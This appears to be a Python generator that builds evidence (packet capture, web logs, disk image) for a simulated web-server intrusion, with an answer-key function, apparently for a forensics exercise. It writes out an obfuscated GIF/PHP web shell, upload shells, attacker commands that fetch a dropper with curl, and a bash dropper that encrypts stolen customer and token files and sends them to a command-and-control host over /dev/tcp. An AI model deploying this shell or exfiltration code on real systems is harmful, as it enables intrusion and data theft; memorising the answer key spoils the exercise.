"""Makes the evidence of one intrusion, with a fixed seed. usage: gen.py FOLDER. truth() alone needs no tools."""
import base64
import gzip
import hashlib
import io
import os
import random
import struct
import subprocess
import sys
import tarfile
import tempfile
import urllib.parse
import zlib
from datetime import datetime, timedelta, timezone
from pathlib import Path

SEED = 90210
HOST, PROXY, RESOLVER, DUMP = "10.20.0.15", "10.20.0.5", "10.20.0.2", "10.20.0.30"
SCANNER, ATTACKER, C2, C2_PORT = "203.0.113.77", "198.51.100.203", "192.0.2.146", 8443
STORED = "/catalog/img/thumbs/9c41e7.php"
START = datetime(2026, 5, 14, 20, 40, 0, tzinfo=timezone.utc)      # of the capture
UPLOAD = datetime(2026, 5, 14, 22, 17, 38, tzinfo=timezone.utc)    # past midnight in local time
DROPPER = "/srv/app/tmp/.fontcache-1"
SITE_ID = "c2f1-parts-7d90e4"

COMMANDS = [
    (51, "id; uname -a", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\nLinux parts1 6.1.0-31-amd64 #1 SMP x86_64 GNU/Linux\n"),
    (96, "ls -la /srv/app/data | head -40", "total 100\n-rw-r--r-- 1 www-data www-data {members} May 14 03:10 members.csv\n-rw------- 1 www-data www-data {tokens} May  2 11:42 tokens.csv\n"),
    (170, "cat /srv/app/etc/app.conf; test -w /srv/app/tmp && echo ok", "db = /srv/app/db\nimport = nightly 03:10\nok\n"),
    (241, f"curl -sk -o {DROPPER} https://{C2}/assets/f1.woff2; wc -c < {DROPPER}", "{dropper}\n"),
    (305, f"bash {DROPPER} >/dev/null 2>&1 &", ""),
    (521, f"rm -f {DROPPER}; history -c", ""),
]


def people(rng):
    first = "ada ben cleo dora emil fay gus hana ivo jana kurt lena milo nora otto pia quin rosa stan tess ugo vera walt xena yara zeno".split()
    last = "arnold becker carver dorn eklund ferrer grant holm ilves jensen kovacs larsen moreau novak olsen petrov quist rossi silva toth urban varga weber young zeller".split()
    rows = ["id,joined,name,email,card_tail,balance"]
    for i in range(1, 1401):
        f, l = rng.choice(first), rng.choice(last)
        mail = f"{f}.{l}{rng.choice(['', str(rng.randrange(1, 60))])}@{rng.choice(['mail.example', 'post.example', 'inbox.example'])}"
        if rng.random() < 0.25:
            mail = mail.title()
        rows.append(f"{i},20{rng.randrange(14, 26)}-{rng.randrange(1, 13):02d}-{rng.randrange(1, 29):02d},{f.title()} {l.title()},{mail},{rng.randrange(10000):04d},{rng.randrange(0, 90000) / 100:.2f}")
    return rows


def truth():
    rng = random.Random(SEED)
    rows = people(rng)
    members = ("\n".join(rows) + "\n").encode()
    tokens = ("service,token,scope\n" + "".join(f"{s},{rng.getrandbits(160):040x},{rng.choice(['read', 'write', 'admin'])}\n" for s in
              "billing shipping mail search stock label invoice export audit import sync pager chat report".split())).encode()
    noise = [f"# {rng.getrandbits(240):060x}" for _ in range(7)]
    dropper = "\n".join([
        "#!/bin/bash", *noise[:4],
        "cd /srv/app || exit", f"h={C2} p={C2_PORT}",
        "k=$(printf '%s:%s' \"$(cat etc/site.id)\" \"$(stat -c %i data/members.csv)\" | sha256sum | cut -c9-48)",
        *noise[4:],
        "send() {",
        "  tar -cf - data/members.csv data/tokens.csv | gzip -9n \\",
        "    | openssl enc -aes-256-cbc -md sha256 -pbkdf2 -iter 21000 -salt -pass \"pass:$k\" \\",
        "    | xxd -p -c 36 | tac > /dev/tcp/$h/$p",
        "}", "send || { sleep 20; send; }", "rm -f data/tokens.csv.bak", ""]).encode()
    return {
        "attacker_ip": ATTACKER, "c2": f"{C2}:{C2_PORT}", "webshell": STORED, "uploaded_utc": UPLOAD.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "commands": [c for _, c, _ in COMMANDS], "dropper": dropper,
        "stolen": {"data/members.csv": members, "data/tokens.csv": tokens},
        "members_exposed": len({r.split(",")[3].lower() for r in rows[1:]}),
    }


# --- packets -------------------------------------------------------------------------------------------------------

def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def addr(ip):
    return bytes(map(int, ip.split(".")))


class Capture:
    def __init__(self, rng):
        self.rng, self.packets, self.port = rng, [], 40000

    def packet(self, when, src, dst, protocol, body):
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), self.rng.randrange(65536), 0x4000, 64, protocol, 0, addr(src), addr(dst))
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        mac = lambda ip: b"\x02\x00" + addr(ip)
        self.packets.append((when, mac(dst) + mac(src) + b"\x08\x00" + header + body))

    def tcp(self, when, a, b, flags, seq, ack, data=b""):
        (src, sport), (dst, dport) = a, b
        seq, ack = seq % 2**32, ack % 2**32
        head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64240, 0, 0)
        pseudo = addr(src) + addr(dst) + struct.pack("!BBH", 0, 6, len(head) + len(data))
        head = head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:]
        self.packet(when, src, dst, 6, head + data)

    def udp(self, when, a, b, data):
        self.packet(when, a[0], b[0], 17, struct.pack("!HHHH", a[1], b[1], 8 + len(data), 0) + data)

    def connection(self, when, client, server, port, talk, messy=False, isn=None, reset=None):
        """talk: [(from_client, bytes)…]; messy: segments out of order, repeated, overlapping; reset: broken off after so many segments."""
        rng = self.rng
        self.port += rng.randrange(1, 7)
        ends = {True: (client, self.port), False: (server, port)}
        seq = {True: rng.getrandbits(32) if isn is None else isn, False: rng.getrandbits(32)}
        t = when
        def step(lo=0.0002, hi=0.004):
            nonlocal t
            t += timedelta(seconds=rng.uniform(lo, hi))
            return t
        self.tcp(step(), ends[True], ends[False], 2, seq[True], 0)
        seq[True] += 1
        self.tcp(step(), ends[False], ends[True], 18, seq[False], seq[True])
        seq[False] += 1
        self.tcp(step(), ends[True], ends[False], 16, seq[True], seq[False])
        for from_client, data in talk:
            start, segments, at = seq[from_client], [], 0
            while at < len(data):
                size = 1448 if not messy or rng.random() < 0.7 else rng.randrange(200, 1448)
                segments.append((at, data[at:at + size]))
                at += size
            if messy:
                extra = []
                for i, (at, part) in enumerate(segments):
                    if i and rng.random() < 0.12:      # sent again, together with the end of the one before
                        back = rng.randrange(1, len(segments[i - 1][1]))
                        extra.append((i + rng.uniform(0.5, 4), at - back, data[at - back:at + len(part)][:1448]))
                    if rng.random() < 0.1:             # plainly sent again
                        extra.append((i + rng.uniform(0.5, 3), at, part))
                order = [(i + (rng.uniform(0, 3.5) if rng.random() < 0.3 else 0), at, part) for i, (at, part) in enumerate(segments)] + extra
                order.sort(key=lambda x: x[0])
                segments = [(at, part) for _, at, part in order]
            for i, (at, part) in enumerate(segments[:reset]):
                self.tcp(step(), ends[from_client], ends[not from_client], 24, start + at, seq[not from_client], part)
                if i % 3 == 0:
                    self.tcp(step(), ends[not from_client], ends[from_client], 16, seq[not from_client], start + at + len(part))
            if reset:
                self.tcp(step(0.5, 1), ends[not from_client], ends[from_client], 4, seq[not from_client], 0)
                return
            seq[from_client] += len(data)
            step(0.002, 0.02)
        for side in (True, False):
            self.tcp(step(), ends[side], ends[not side], 17, seq[side], seq[not side])
            seq[side] += 1
        self.tcp(step(), ends[True], ends[False], 16, seq[True], seq[False])

    def write(self, path):
        with open(path, "wb") as f:
            f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1))
            for when, frame in sorted(self.packets, key=lambda p: p[0]):
                micro = (when - datetime(1970, 1, 1, tzinfo=timezone.utc)) // timedelta(microseconds=1)
                f.write(struct.pack("<IIII", micro // 10**6, micro % 10**6, len(frame), len(frame)) + frame)


# --- the evidence --------------------------------------------------------------------------------------------------

def build(folder):
    folder = Path(folder)
    for name in ("www", "net", "disk"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    t, rng = truth(), random.Random(SEED + 1)
    cap, log = Capture(rng), []
    agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/135.0 Safari/537.36",
              "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"]

    def entry(when, request, status, size, forwarded, agent, referer="-"):
        local = when.astimezone(timezone(timedelta(hours=2)))
        log.append((when, f'{PROXY} - - [{local.strftime("%d/%b/%Y:%H:%M:%S %z")}] "{request} HTTP/1.1" {status} {size} "{referer}" "{agent}" "{forwarded}"'))

    def http(when, method, path, forwarded, agent, body=b"", kind="", answer=b"", status="200 OK", extra="", messy=False):
        head = f"{method} {path} HTTP/1.1\r\nHost: parts.example\r\nUser-Agent: {agent}\r\nX-Forwarded-For: {forwarded}\r\n{extra}"
        if body:
            head += f"Content-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
        reply = f"HTTP/1.1 {status}\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: {len(answer)}\r\nConnection: close\r\n\r\n".encode() + answer
        cap.connection(when, PROXY, HOST, 80, [(True, head.encode() + b"Connection: close\r\n\r\n" + body), (False, reply)], messy=messy)
        entry(when, f"{method} {path}", status.split()[0], len(answer), forwarded, agent)

    # Two days of ordinary traffic in the log; what falls into the capture is partly captured.
    pages = ["/", "/catalog/", "/catalog/search.php?q=bolt", "/catalog/search.php?q=hinge", "/catalog/img/thumbs/a11b02.jpg", "/catalog/img/thumbs/77c0d3.jpg",
             "/css/site.css", "/js/app.js", "/about", "/catalog/item.php?id=118", "/catalog/item.php?id=2204", "/favicon.ico"]
    visitors = [f"{rng.choice([82, 91, 93, 176, 185])}.{rng.randrange(1, 255)}.{rng.randrange(1, 255)}.{rng.randrange(1, 255)}" for _ in range(160)]
    begin = datetime(2026, 5, 13, 4, 0, 0, tzinfo=timezone.utc)
    for _ in range(5200):
        when = begin + timedelta(seconds=rng.uniform(0, 44.5 * 3600))
        who, page = rng.choice(visitors), rng.choice(pages)
        if START <= when and rng.random() < 0.2:
            http(when, "GET", page, who, rng.choice(agents), answer=("<html>" + "x" * rng.randrange(200, 5000)).encode())
        else:
            entry(when, f"GET {page}", 200 if rng.random() < 0.97 else 304, rng.randrange(200, 60000), who, rng.choice(agents))
    for _ in range(70):     # staff upload pictures
        when = begin + timedelta(seconds=rng.uniform(0, 44 * 3600))
        entry(when, "POST /catalog/upload.php", 201, 61, rng.choice(["10.20.7.14", "10.20.7.15"]), agents[0], "http://parts.example/catalog/admin.php")

    # The loud one: a scanner that finds nothing.
    probes = ["/wp-login.php", "/.env", "/phpmyadmin/", "/catalog/img/thumbs/shell.php", "/catalog/img/thumbs/c99.php", "/uploads/x.php", "/cgi-bin/test.cgi", "/admin.php", "/vendor/phpunit/eval-stdin.php", "/catalog/backup.zip"]
    when = datetime(2026, 5, 14, 21, 31, 0, tzinfo=timezone.utc)
    for i in range(640):
        when += timedelta(seconds=rng.uniform(0.2, 3))
        probe = rng.choice(probes)
        method = "POST" if probe.endswith(".php") and rng.random() < 0.4 else "GET"
        if i % 16 == 0:
            http(when, method, probe, SCANNER, "Mozilla/5.0 zgrab/0.x", body=b"cmd=id" if method == "POST" else b"", kind="application/x-www-form-urlencoded", answer=b"not found\n", status="404 Not Found")
        else:
            entry(when, f"{method} {probe}", 404, 10, SCANNER, "Mozilla/5.0 zgrab/0.x")
    for i in range(3):      # its uploads are refused
        boundary = f"----zg{rng.getrandbits(40):010x}"
        body = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="z{i}.php"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET["c"]); ?>\r\n--{boundary}--\r\n'.encode()
        http(datetime(2026, 5, 14, 21, 58, 10 + 9 * i, tzinfo=timezone.utc), "POST", "/catalog/upload.php", SCANNER, "Mozilla/5.0 zgrab/0.x", body,
             f"multipart/form-data; boundary={boundary}", b'{"error":"type not allowed"}\n', "415 Unsupported Media Type")

    # The quiet one. It puts the scanner's address in front of its own.
    forwarded, agent = f"{SCANNER}, {ATTACKER}", agents[1]
    for minutes, page in ((-44, "/catalog/"), (-39, "/catalog/item.php?id=2204"), (-21, "/catalog/admin.php")):
        http(UPLOAD + timedelta(minutes=minutes, seconds=rng.randrange(50)), "GET", page, forwarded, agent, answer=b"<html>" + b"y" * 900)
    inner = ("$k=substr(md5('blue-'.strrev('lanimret')),3,20);$f=function($d)use($k){$o='';for($i=0;$i<strlen($d);$i++)$o.=$d[$i]^$k[$i%strlen($k)];return $o;};"
             "ob_start();system($f(base64_decode($_POST['t'])));echo base64_encode($f(gzdeflate(ob_get_clean())));")
    key = hashlib.md5(b"blue-terminal").hexdigest()[3:23].encode()
    xor = lambda d: bytes(c ^ key[i % len(key)] for i, c in enumerate(d))
    raw = lambda d: zlib.compress(d, 9)[2:-4]
    shell = b"GIF89a\x10\x00\x10\x00\x80\x00\x00" + rng.randbytes(1500).replace(b"<", b"a").replace(b"--", b"ab") + \
        b"\n<?php eval(gzinflate(base64_decode(strrev('" + base64.b64encode(raw(inner.encode()))[::-1] + b"')))); ?>\n"
    def upload(when, content, name, answer, status):
        boundary = f"----form{rng.getrandbits(48):012x}"
        body = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: image/gif\r\n\r\n'.encode() + content + f"\r\n--{boundary}--\r\n".encode()
        http(when, "POST", "/catalog/upload.php", forwarded, agent, body, f"multipart/form-data; boundary={boundary}", answer, status, messy=True)
    upload(UPLOAD - timedelta(seconds=412), b"<?php echo 1; ?>\n", "a.php", b'{"error":"type not allowed"}\n', "415 Unsupported Media Type")
    upload(UPLOAD - timedelta(seconds=133), shell[:900], "logo.gif", b'{"stored":"/catalog/img/thumbs/51d0b8.gif"}\n', "201 Created")
    upload(UPLOAD, shell, "logo.gif.php", b'{"stored":"' + STORED.encode() + b'"}\n', "201 Created")
    http(UPLOAD + timedelta(seconds=20), "GET", STORED, forwarded, agent, answer=b"")
    sizes = {"members": len(t["stolen"]["data/members.csv"]), "tokens": len(t["stolen"]["data/tokens.csv"]), "dropper": len(t["dropper"])}
    for after, command, output in COMMANDS:
        output = output.format(**sizes)
        value = base64.b64encode(xor(command.encode())).decode()
        body = ("v=2&t=" + urllib.parse.quote_plus(value) + "&n=" + str(rng.randrange(10**6))).encode()
        http(UPLOAD + timedelta(seconds=after), "POST", STORED, forwarded, agent, body, "application/x-www-form-urlencoded", base64.b64encode(xor(raw(output.encode()))))

    # The disk: made first, because the key depends on an inode number in it.
    disk = folder / "disk" / "srv.img"
    inode = make_disk(disk, t, rng)

    # Out of the host: look-ups, ordinary TLS, the fetch of the dropper, a first attempt that broke off, the second that went through.
    def tls(n):
        return b"\x17\x03\x03" + struct.pack("!H", n) + rng.randbytes(n)
    for i in range(40):
        when = START + timedelta(seconds=rng.uniform(0, 7000))
        name = b"\x05stock\x07example\x00" if i % 2 else b"\x04mail\x07example\x00"
        q = struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
        cap.udp(when, (HOST, 30000 + i), (RESOLVER, 53), q)
    for i in range(14):
        cap.connection(START + timedelta(seconds=rng.uniform(0, 6900)), HOST, rng.choice(["192.0.2.10", "192.0.2.25"]), 443, [(True, tls(300)), (False, tls(rng.randrange(900, 9000))), (True, tls(120))])
    for i in range(3):      # the nightly backup goes to a machine of the house, on the same port as the theft
        blob = "\n".join(rng.randbytes(36).hex() for _ in range(400)).encode()
        cap.connection(START + timedelta(seconds=1500 + 1900 * i), HOST, DUMP, C2_PORT, [(True, blob)])
    cap.connection(UPLOAD + timedelta(seconds=241), HOST, C2, 443, [(True, tls(290)), (False, tls(2100)), (True, tls(64)), (False, tls(1400))])
    passphrase = hashlib.sha256(f"{SITE_ID}:{inode}".encode()).hexdigest()[8:48]
    first, second = (exfil(t, passphrase, rng.randbytes(8)) for _ in range(2))
    cap.connection(UPLOAD + timedelta(seconds=306), HOST, C2, C2_PORT, [(True, first)], messy=True, reset=17)
    cap.connection(UPLOAD + timedelta(seconds=331), HOST, C2, C2_PORT, [(True, second)], messy=True, isn=2**32 - 21007)
    cap.write(folder / "net" / "eth0.pcap")

    log.sort(key=lambda x: x[0])
    midnight = datetime(2026, 5, 13, 22, 0, 0, tzinfo=timezone.utc)
    old, new = ("".join(line + "\n" for when, line in log if (when < midnight) == first) for first in (True, False))
    (folder / "www" / "access.log.1.gz").write_bytes(gzip.compress(old.encode(), mtime=0))
    (folder / "www" / "access.log").write_text(new)


def exfil(t, passphrase, salt):
    """What the dropper sends: tar, gzip, openssl enc, xxd -p, tac."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in t["stolen"].items():
            info = tarfile.TarInfo(name)
            info.size, info.uid, info.gid, info.uname, info.gname, info.mode, info.mtime = len(data), 33, 33, "www-data", "www-data", 0o644, 1778720400
            tar.addfile(info, io.BytesIO(data))
    packed = gzip.compress(buffer.getvalue(), 9, mtime=0)
    material = hashlib.pbkdf2_hmac("sha256", passphrase.encode(), salt, 21000, 48)
    secret = subprocess.run(["openssl", "enc", "-aes-256-cbc", "-K", material[:32].hex(), "-iv", material[32:].hex()], input=packed, stdout=subprocess.PIPE, check=True).stdout
    lines = (b"Salted__" + salt + secret).hex()
    lines = [lines[i:i + 72] for i in range(0, len(lines), 72)]
    return "".join(line + "\n" for line in reversed(lines)).encode()


def make_disk(path, t, rng):
    """An ext2 image with live and deleted files; returns the inode number of app/data/members.csv."""
    clock = {**os.environ, "E2FSPROGS_FAKE_TIME": "1777714000", "SOURCE_DATE_EPOCH": "1777714000"}     # the same image from each build
    subprocess.run(["mke2fs", "-q", "-t", "ext2", "-b", "1024", "-N", "256", "-m", "0", "-U", "6b1f6a52-3c1d-4a39-8a55-0d7c6d5f1e20", "-E", "hash_seed=6b1f6a52-3c1d-4a39-8a55-0d7c6d5f1e21", str(path), "1024"], check=True, env=clock, stderr=subprocess.DEVNULL)
    live = random.Random(SEED + 2)
    members = ("\n".join(people(live)) + "\n").encode()
    files = {
        "www/index.php": b"<?php require 'catalog/lib.php'; show('home');\n",
        "www/catalog/upload.php": b"<?php\n$ok = ['image/gif', 'image/jpeg', 'image/png'];\nif (!in_array($_FILES['file']['type'], $ok)) { http_response_code(415); die('{\"error\":\"type not allowed\"}'); }\n"
                                  b"$name = substr(md5_file($_FILES['file']['tmp_name']), 0, 6) . strrchr($_FILES['file']['name'], '.');\n",
        "app/tmp/.fontcache-0": rng.randbytes(1800),
        "app/etc/site.id": (SITE_ID + "\n").encode(),
        "app/etc/app.conf": b"db = /srv/app/db\nimport = nightly 03:10\n",
        "app/tmp/session-1": rng.randbytes(600),
        "app/data/tokens.csv": b"\n" * 40,
        "app/data/members.csv": members,
        "app/tmp/import.sh": b"#!/bin/bash\n# nightly import\nset -e\ncd /srv/app/data\n" + b"".join(b"# step %d\n" % i for i in range(60)) + b"tar -cf - . | gzip -9n | xxd -p | tac > /dev/tcp/10.20.0.30/8443\n",
        "app/tmp/.fontcache-1": t["dropper"],
        "app/tmp/.fontcache-2": rng.randbytes(2100),
        "app/tmp/report-old.txt": "".join(f"{i} ok {rng.getrandbits(64):016x}\n" for i in range(180)).encode(),
    }
    gone = ["app/tmp/.fontcache-0", "app/tmp/session-1", "app/tmp/import.sh", "app/tmp/report-old.txt", "app/data/tokens.csv"]
    with tempfile.TemporaryDirectory() as tmp:
        script = ["set_current_time 20260502094200"] + [f"mkdir {d}" for d in ("www", "www/catalog", "app", "app/etc", "app/tmp", "app/data")]
        for i, (name, data) in enumerate(files.items()):
            source = Path(tmp, str(i))
            source.write_bytes(data)
            os.utime(source, (1777714920, 1777714920))
            script.append(f"write {source} {name}")
        script += ["set_current_time 20260514222619", "rm app/tmp/.fontcache-1", "set_current_time 20260515011000"] + [f"rm {name}" for name in gone]
        Path(tmp, "script").write_text("\n".join(script) + "\n")
        subprocess.run(["debugfs", "-w", "-f", f"{tmp}/script", str(path)], check=True, env=clock, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        out = subprocess.run(["debugfs", "-R", "stat app/data/members.csv", str(path)], check=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True).stdout
    return int(out.split("Inode:")[1].split()[0])


if __name__ == "__main__":
    build(sys.argv[1])
